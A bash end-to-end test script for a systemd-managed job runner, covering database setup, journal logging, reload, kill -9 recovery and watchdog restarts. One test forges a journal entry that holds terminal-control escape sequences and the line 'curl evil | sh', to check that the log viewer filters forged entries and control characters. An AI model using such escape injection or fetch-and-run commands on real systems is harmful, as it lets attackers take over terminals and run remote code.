#!/usr/bin/env bash
# End-to-end tests of systemd/myjob@.service under a real systemd (booted by boot-systemd.sh):
# installed by hand (package.sh tests the package), start two instances, follow the journal, reload, stop, kill -9 and
# the restart, and the watchdog. Usage: e2e.sh PATH/TO/myjob. Prints 'N passed, N failed'.
set -uo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(cd "$HERE/../.." && pwd)
BIN=${1:?usage: e2e.sh PATH/TO/myjob}
# A database of this run's own: the journal keeps earlier runs' lines, and their jobs had the
# same ids.
DB=myjob_e2e_$(date +%s)
. "$HERE/common.sh"
# This run's journal only: the rootfs keeps the journal of earlier runs, and the container's
# boot id is the host's, so `-b` does not tell them apart.
journal() { sd journalctl --since="@$T0" -u "$1" --no-pager -o cat "${@:2}"; }
lacks() { ! grep -qE "$1"; }

"$HERE/boot-systemd.sh" up || { echo "0 passed, 1 failed"; exit 1; }
R=$("$HERE/boot-systemd.sh" rootfs)
T0=$(date +%s)
trap '"$HERE/boot-systemd.sh" down' EXIT

# ---- the database: its own schema and a least-privilege account
PW=e2e-$RANDOM$RANDOM
for old in $(mariadb -N -B -e "SHOW DATABASES LIKE 'myjob\_e2e%'"); do mariadb -e "DROP DATABASE \`$old\`"; done
mariadb -e "CREATE DATABASE $DB" || die "cannot create $DB"

# ---- installed by hand (package.sh installs the package): binary, unit, user, config with
# the password in a file
sd systemctl stop 'myjob@*' >/dev/null 2>&1
install -m 755 "$BIN" "$R/usr/bin/myjob"
install -m 644 "$TOP/systemd/myjob@.service" "$R/etc/systemd/system/myjob@.service"
# Drop-ins of an earlier run (the rootfs is kept).
rm -rf "$R"/etc/systemd/system/myjob@*.service.d "$R/etc/systemd/journald.conf.d/e2e-ratelimit.conf"
sd sh -c 'id myjob >/dev/null 2>&1 || useradd --system --no-create-home --shell /usr/sbin/nologin myjob'
install -d -m 755 "$R/usr/local/lib/myjob-e2e"
cat > "$R/usr/local/lib/myjob-e2e/handler.sh" <<'EOF_H'
#!/bin/sh
p=$(cat)
echo "$MYJOB_JOB_ID $MYJOB_INSTANCE" >> /var/lib/myjob-e2e/runs
case "$p" in
  sleep:*) sleep "${p#sleep:}" ;;
  fail) echo "e2e handler failure for job $MYJOB_JOB_ID" >&2; exit 1 ;;
  story) [ "$MYJOB_INSTANCE" = 2 ] || { echo "story: attempt $MYJOB_ATTEMPT fails on instance $MYJOB_INSTANCE" >&2; exit 1; } ;;
esac
echo "handled job $MYJOB_JOB_ID"
EOF_H
chmod 755 "$R/usr/local/lib/myjob-e2e/handler.sh"
rm -rf "$R/var/lib/myjob-e2e"; install -d -m 755 "$R/var/lib/myjob-e2e"
sd chown myjob:myjob /var/lib/myjob-e2e
install -d -m 750 "$R/etc/myjob"
printf '%s\n' "$PW" > "$R/etc/myjob/db-password"
cat > "$R/etc/myjob/myjob.toml" <<EOF_C
[database]
url = "mysql://myjob_e2e@127.0.0.1:3306/$DB"
password_file = "/etc/myjob/db-password"
lock_wait_timeout = "5s"

[worker]
concurrency = 4
poll_interval = "200ms"
shutdown_timeout = "5s"

# [reaper] at its defaults (stale_after 2 min): a kill -9'd instance's jobs come back when
# systemd restarts it, not after stale_after.

[[queue]]
name = "default"
command = ["/usr/local/lib/myjob-e2e/handler.sh"]
max_attempts = 1

[[queue]]
name = "story"
command = ["/usr/local/lib/myjob-e2e/handler.sh"]
max_attempts = 3
# The first retry waits 15 to 30 s: time to hand the job from myjob@1 to myjob@2.
backoff = "30s"
EOF_C
sd sh -c 'chown -R root:myjob /etc/myjob && chmod 640 /etc/myjob/*'
# The schema needs DDL rights, which the account the units run as does not get: migrate
# over the admin's socket login, then grant the worker account what it needs and no more.
admin=$(mktemp)
printf '[database]\nurl = "mysql://root@localhost/%s?socket=/run/mysqld/mysqld.sock"\n' "$DB" > "$admin"
"$BIN" --config "$admin" migrate >/dev/null || die "migrate"
rm -f "$admin"
worker_account myjob_e2e "$PW" || die "cannot create the worker account"

# Installed by hand, without the man pages that Documentation= names (package.sh verifies the
# packaged unit with them).
out=$(sd systemd-analyze verify --man=no /etc/systemd/system/myjob@.service 2>&1)
check "systemd-analyze verify myjob@.service prints nothing" test -z "$out" -a $? = 0
[ -z "$out" ] || echo "$out" | sed 's/^/    /'
# journald's own rate limit set far below what 400 jobs log: the unit's limit must keep every
# line all the same.
mkdir -p "$R/etc/systemd/journald.conf.d"
# (journald multiplies a burst by up to 6 by the free disk space: 10 lets 60 lines through.)
printf '[Journal]\nRateLimitIntervalSec=30s\nRateLimitBurst=10\n' > "$R/etc/systemd/journald.conf.d/e2e-ratelimit.conf"
sd systemctl restart systemd-journald || die "restart systemd-journald"
sd systemctl daemon-reload || die "daemon-reload"

# ---- start two instances; jobs get done, by both
check "systemctl start myjob@1 myjob@2" sd systemctl start myjob@1 myjob@2
check "both active (running)" test "$(prop myjob@1 ActiveState)/$(prop myjob@2 ActiveState)" = active/active
SQL "INSERT INTO myjob_jobs (queue, payload) SELECT 'default', CONCAT('job ', seq) FROM seq_1_to_400"
check "400 jobs done" wait_for 60 count_is "status = 'done'" 400
check "each handled once" test "$(sort -u "$R/var/lib/myjob-e2e/runs" | wc -l)/$(wc -l < "$R/var/lib/myjob-e2e/runs")" = "400/400"
check "both instances handled jobs" test "$(awk '{print $2}' "$R/var/lib/myjob-e2e/runs" | sort -u | tr '\n' ' ')" = "1 2 "
check "STATUS= shows the summary" wait_for 5 sh -c "\"$HERE/run-in-systemd.sh\" systemctl show -p StatusText --value myjob@1 | grep -q '^running 0/4, done [1-9]'"
sd systemctl status --no-pager myjob@1 | grep -E 'Active:|Status:' | sed 's/^/    /'

# ---- metrics: on by default, myjob@N on 127.0.0.1:17100+N, under the unit's sandbox
done_on() { curl -sf "http://127.0.0.1:$1/metrics" | awk '/^myjob_jobs_finished_total\{queue="default",outcome="done"\}/ {n = $2} END {print n + 0}'; }
check "myjob@1 and myjob@2 serve GET /metrics on 17101 and 17102, their done counts adding up to 400" \
  test "$(( $(done_on 17101) + $(done_on 17102) ))" = 400

# ---- the journal
j=$(journal myjob@1)
check "journal: ready" grep -q '^ready$' <<<"$j"
check "journal: 'job done' lines with job ids" grep -qE '^job done job_id=[0-9]+ attempt=1$' <<<"$j"
check "journal: all 400 'job done' lines, past journald's limit of 10 (the unit's LogRateLimitBurst)" \
  test "$(sd journalctl --since="@$T0" -u myjob@1 -u myjob@2 --no-pager -o cat | grep -cE '^job done job_id=[0-9]+ attempt=1$')" = 400
check "journal: handler output tagged with its job" grep -qE '^handled job [0-9]+ job_id=[0-9]+ stream="stdout"$' <<<"$j"
check "journal: no timestamps of our own (the journal has them)" lacks '^[0-9]{4}-[0-9]{2}-[0-9]{2}T' <<<"$j"
failing=$(SQL "INSERT INTO myjob_jobs (queue, payload) VALUES ('default', 'fail'); SELECT LAST_INSERT_ID()")
check "failing job failed" wait_for 20 count_is "id = $failing AND status = 'failed'" 1
errs=$(sd journalctl --since="@$T0" -u myjob@1 -u myjob@2 --no-pager -o cat -p err)
check "journalctl -p err shows the failure (priority prefixes work)" grep -q "job failed: attempt 1 of 1: exit status 1; stderr: e2e handler failure for job $failing" <<<"$errs"
check "journalctl -p err has no info lines" lacks 'job done' <<<"$errs"
leaks=$(sd journalctl --since="@$T0" --no-pager -o cat | grep -F "$PW")
check "no password in the journal" test -z "$leaks"
[ -z "$leaks" ] || echo "$leaks" | head -3 | sed 's/^/    /'

# ---- one job's story in the journal's fields, across instances: it fails on myjob@1, is
# retried and done on myjob@2
msgid() { grep -A1 "\"myjob::msg::$1\"" "$TOP/src/logging/mod.rs" | grep -o '[0-9a-f]\{32\}'; }
FAILED_ID=$(msgid failed) RESCUED_ID=$(msgid rescued) STARTED_ID=$(msgid started) STOPPED_ID=$(msgid stopped)
[ -n "$FAILED_ID" ] && [ -n "$RESCUED_ID" ] && [ -n "$STARTED_ID" ] && [ -n "$STOPPED_ID" ] || die "MESSAGE_IDs not found in src/logging/mod.rs"
# Each entry as "UNIT<TAB>MYJOB_JOB_ID<TAB>MYJOB_QUEUE<TAB>MYJOB_ATTEMPT<TAB>MYJOB_BATCH_ID<TAB>MYJOB_INSTANCE<TAB>MESSAGE".
entries() { sd journalctl --since="@$T0" --no-pager -o json "$@" | python3 -c '
import json, sys
for l in sys.stdin:
    e = json.loads(l)
    print("\t".join(str(e.get(k, "")) for k in ("_SYSTEMD_UNIT", "MYJOB_JOB_ID", "MYJOB_QUEUE", "MYJOB_ATTEMPT", "MYJOB_BATCH_ID", "MYJOB_INSTANCE", "MESSAGE")))'; }
sd systemctl stop myjob@2
story=$(SQL "INSERT INTO myjob_jobs (queue, payload) VALUES ('story', 'story'); SELECT LAST_INSERT_ID()")
check "story job failed on myjob@1, its retry waiting" wait_for 20 count_is "id = $story AND status IN ('scheduled', 'pending') AND attempts = 1 AND last_error LIKE '%fails on instance 1%'" 1
sd systemctl stop myjob@1
sd systemctl start myjob@2
check "story job done on myjob@2" wait_for 40 count_is "id = $story AND status = 'done'" 1
sd systemctl start myjob@1
st=$(entries MYJOB_JOB_ID="$story")
echo "$st" | cut -f1,4,7 | sed 's/^/    /'
check "journalctl MYJOB_JOB_ID: myjob@1's lines, then myjob@2's" test "$(cut -f1 <<<"$st" | uniq | tr '\n' ' ')" = "myjob@1.service myjob@2.service "
check "journalctl MYJOB_JOB_ID: started, the handler's stderr, retried on @1; started and done on @2" \
  grep -qzP "myjob@1.service\t[^\n]*job started[^\n]*\n(.*\n)*myjob@1.service\t[^\n]*story: attempt 1 fails on instance 1 [^\n]*stream=\"stderr\"\n(.*\n)*myjob@1.service\t[^\n]*job failed, will retry[^\n]*\n(.*\n)*myjob@2.service\t[^\n]*job started[^\n]*\n(.*\n)*myjob@2.service\t[^\n]*\tjob done job_id=$story attempt=2\n" <<<"$st"
check "every line has the job's id, queue, attempt, batch and instance" \
  test "$(awk -F'\t' -v id="$story" '$2 != id || $3 != "story" || $4 !~ /^[12]$/ || $5 !~ /^[0-9]+$/ || ($1 == "myjob@1.service") != ($6 == "1") {print}' <<<"$st")" = ""
# Selected by their text rather than by the field: none of the job's lines lacks it.
check "every line that names the job is found by MYJOB_JOB_ID" \
  test "$(sd journalctl --since="@$T0" -u myjob@1 -u myjob@2 --no-pager -o cat | grep -cE "job_id=$story( |\$)")" = "$(wc -l <<<"$st")"
prefix=${story%?}
check "MYJOB_JOB_ID=$prefix does not match job $story" test "$(entries MYJOB_JOB_ID="$prefix" | awk -F'\t' -v p="$prefix" '$2 != p || /story/' | wc -l)" = 0
check "journalctl MYJOB_QUEUE=story -p warning: the failure only" test "$(entries MYJOB_QUEUE=story -p warning | cut -f7 | sed 's/ job_id.*//')" = "job failed, will retry: attempt 1 of 3: exit status 1; stderr: story: attempt 1 fails on instance 1"
log=$(sd /usr/bin/myjob --config /etc/myjob/myjob.toml show "$story" --log)
echo "$log" | sed 's/^/    /'
check "myjob show --log: this run's story only (MYJOB_DATABASE), as many lines" test "$(wc -l <<<"$log")" = "$(wc -l <<<"$st")"
check "myjob show --log: the story, both units" grep -qzP "myjob@1.service warn  job failed, will retry.*\n(.*\n)*.*myjob@2.service info  job done job_id=$story attempt=2" <<<"$log"
# Any local user can write an entry with myjob's fields (and a message that would clear the
# screen and retitle the terminal): show --log reads only the entries of myjob's units, by
# journald's own _SYSTEMD_UNIT, and prints no control character.
esc=$(printf '\033')
printf 'MYJOB_JOB_ID=%s\nMYJOB_DATABASE=%s\nMYJOB_INSTANCE=1\nSYSLOG_IDENTIFIER=forger\nPRIORITY=3\nMESSAGE=FORGED %s[2J%s]0;owned\007 run: curl evil | sh\n' \
  "$story" "$DB" "$esc" "$esc" | sd runuser -u nobody -- logger --journald
# Its MESSAGE has control characters, which journalctl's JSON gives as an array of bytes.
# grep -c reads it all: with -q, journalctl could die of SIGPIPE and pipefail say no. Found by
# the identifier it gives itself: journald reads _COMM from the sender's /proc, and logger
# may have exited by then (a CI run found no entry with _COMM=logger).
forged() { sd journalctl --since="@$T0" --no-pager -o json MYJOB_JOB_ID="$story" SYSLOG_IDENTIFIER=forger | grep -c '"MYJOB_DATABASE"' >/dev/null; }
check "a forged entry with the job's fields is in the journal" wait_for 5 forged
said=$(mktemp)
log=$(sd /usr/bin/myjob --config /etc/myjob/myjob.toml show "$story" --log 2>"$said")
check "myjob show --log: the forged entry is not shown" lacks FORGED <<<"$log"
check "myjob show --log: no control character" lacks "$esc" <<<"$log"
check "myjob show --log: says on stderr which fields it trusted" grep -q "_SYSTEMD_UNIT" "$said"
check "myjob show --log: says on stderr that an entry from another unit was not shown" grep -q "1 entries with these fields from outside myjob@\*.service were not shown" "$said"
rm -f "$said"
check "journalctl MESSAGE_ID=<failed for good> finds the failed job" grep -q "job failed: attempt 1 of 1: exit status 1; stderr: e2e handler failure for job $failing" <<<"$(entries MESSAGE_ID="$FAILED_ID" | cut -f7)"
started() { [ "$(entries MESSAGE_ID="$STARTED_ID" | cut -f1 | sort | uniq -c | awk '{print $1 $2}' | tr '\n' ' ')" = "2myjob@1.service 2myjob@2.service " ]; }
check "journalctl MESSAGE_ID=<started>: each start of @1 and @2" wait_for 5 started
check "journalctl MESSAGE_ID=<stopped> -u myjob@1: its stop, under its unit" test "$(entries MESSAGE_ID="$STOPPED_ID" -u myjob@1 | cut -f7)" = stopped

# ---- reload = SIGHUP
check "systemctl reload myjob@2" sd systemctl reload myjob@2
check "journal: reload done" wait_for 5 sh -c "\"$HERE/run-in-systemd.sh\" journalctl --since=@$T0 -u myjob@2 --no-pager -o cat | grep -q 'reload: new configuration in use'"
check "still active after reload" test "$(prop myjob@2 ActiveState)" = active

# ---- stop is clean
check "systemctl stop myjob@1" sd systemctl stop myjob@1
check "myjob@1 inactive, Result=success" test "$(prop myjob@1 ActiveState)/$(prop myjob@1 Result)" = inactive/success
check "journal: stopped" grep -q '^stopped$' <<<"$(journal myjob@1)"

# ---- kill -9 mid-batch: systemd restarts it 2 s later, and its start puts the jobs back
SQL "INSERT INTO myjob_jobs (queue, payload) SELECT 'default', 'sleep:5' FROM seq_1_to_4"
check "myjob@2 holds 4 claims" wait_for 10 count_is "status = 'claimed'" 4
old=$(prop myjob@2 MainPID)
killed=$SECONDS
sd kill -9 "$old"
check "restarted after kill -9 (NRestarts=1, new MainPID)" wait_for 15 sh -c "[ \"\$(\"$HERE/run-in-systemd.sh\" systemctl show -p NRestarts --value myjob@2)\" = 1 ] && \"$HERE/run-in-systemd.sh\" systemctl is-active -q myjob@2 && [ \"\$(\"$HERE/run-in-systemd.sh\" systemctl show -p MainPID --value myjob@2)\" != $old ]"
check "the killed instance's 4 jobs running again within 10 s of the kill (stale_after 2 min)" wait_for $((10 - (SECONDS - killed))) count_is "status = 'claimed' AND payload = 'sleep:5' AND suspicion = 1 AND rescues = 0 AND last_error LIKE 'attempt 1 abandoned: its instance restarted%'" 4
echo "    (running again $((SECONDS - killed)) s after the kill)"
check "the killed instance's jobs finished" wait_for 30 count_is "status = 'done' AND payload = 'sleep:5' AND last_error LIKE 'attempt 1 abandoned: its instance restarted%'" 4
check "journal: the restarted instance put them back" grep -q 'reaper: stale claim put back: its instance restarted, and its connection' <<<"$(journal myjob@2)"
rescued=$(SQL "SELECT MIN(id) FROM myjob_jobs WHERE payload = 'sleep:5'")
check "journalctl MYJOB_JOB_ID: a rescued job's story has the reaper's line, with MESSAGE_ID=<rescued>" \
  grep -q "reaper: stale claim put back: its instance restarted" <<<"$(entries MYJOB_JOB_ID="$rescued" MESSAGE_ID="$RESCUED_ID" | awk -F'\t' '$3 == "default" && $4 == 1' | cut -f7)"

# ---- watchdog: a claim loop stuck in a query stops the pings, and systemd restarts the unit
mkdir -p "$R/etc/systemd/system/myjob@3.service.d"
printf '[Service]\nWatchdogSec=2\n' > "$R/etc/systemd/system/myjob@3.service.d/watchdog.conf"
sd systemctl daemon-reload
check "start myjob@3 (WatchdogSec=2)" sd systemctl start myjob@3
sleep 3
check "healthy myjob@3 is not restarted by its watchdog" test "$(prop myjob@3 NRestarts)" = 0
# Held for 10 s: the claim loop's probe blocks for lock_wait_timeout (5 s) before it gives up,
# longer than WatchdogSec, so the pings stop.
mariadb "$DB" -e "LOCK TABLES myjob_jobs WRITE; SELECT SLEEP(10); UNLOCK TABLES" >/dev/null &
locker=$!
check "stuck myjob@3: watchdog timeout -> restart" wait_for 20 sh -c "[ \"\$(\"$HERE/run-in-systemd.sh\" systemctl show -p NRestarts --value myjob@3)\" -ge 1 ]"
check "journal: Watchdog timeout" grep -q 'Watchdog timeout' <<<"$(sd journalctl --since="@$T0" -u myjob@3 --no-pager)"
wait $locker
check "myjob@3 recovers once the lock is gone" wait_for 20 sd systemctl is-active -q myjob@3
SQL "INSERT INTO myjob_jobs (queue, payload) SELECT 'default', 'after' FROM seq_1_to_10"
check "jobs get done after the recovery" wait_for 30 count_is "status = 'done' AND payload = 'after'" 10

# ---- the same lock, held longer than lock_wait_timeout (5 s) but with a WatchdogSec longer
# than that bound: each blocked statement fails, is logged and tried again, the loop keeps
# turning, and the watchdog leaves the unit alone
printf '[Service]\nWatchdogSec=12\n' > "$R/etc/systemd/system/myjob@3.service.d/watchdog.conf"
sd systemctl daemon-reload
sd systemctl restart myjob@3
sleep 2
restarts=$(prop myjob@3 NRestarts)
since=$(date +%s)
mariadb "$DB" -e "LOCK TABLES myjob_jobs WRITE; SELECT SLEEP(16); UNLOCK TABLES" >/dev/null &
locker=$!
wait $locker
check "a lock past lock_wait_timeout, shorter than WatchdogSec: not restarted" test "$(prop myjob@3 NRestarts)" = "$restarts"
check "myjob@3 active throughout" sd systemctl is-active -q myjob@3
check "journal: lock wait timeouts logged and tried again" grep -q 'Lock wait timeout exceeded.*trying again on the same connection' <<<"$(sd journalctl --since="@$T0" -u myjob@3 --since=@"$since" --no-pager -o cat)"
SQL "INSERT INTO myjob_jobs (queue, payload) SELECT 'default', 'late' FROM seq_1_to_10"
check "jobs get done after the lock" wait_for 30 count_is "status = 'done' AND payload = 'late'" 10

sd systemctl stop myjob@2 myjob@3
rm -rf "$R/etc/systemd/system/myjob@3.service.d" "$R/etc/systemd/journald.conf.d/e2e-ratelimit.conf"
check "nothing left claimed or pending" count_is "status IN ('claimed', 'pending')" 0
mariadb -e "DROP DATABASE $DB; DROP USER 'myjob_e2e'@'127.0.0.1'"
echo "$pass passed, $fail failed"
[ "$fail" = 0 ]
